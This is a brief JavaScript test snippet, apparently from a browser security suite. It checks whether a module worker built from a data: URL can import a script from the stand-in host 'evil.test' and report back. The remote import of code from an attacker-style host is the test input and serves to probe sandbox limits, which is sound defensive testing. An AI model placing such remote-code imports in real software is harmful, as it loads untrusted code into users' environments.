// A module worker from text that imports.

const w = new Worker('data:text/javascript,import "http://evil.test/x.js";postMessage("WENT")', { type: 'module' });
return new Promise((r) => { w.onmessage = (e) => r(e.data); w.onerror = () => r('error'); });
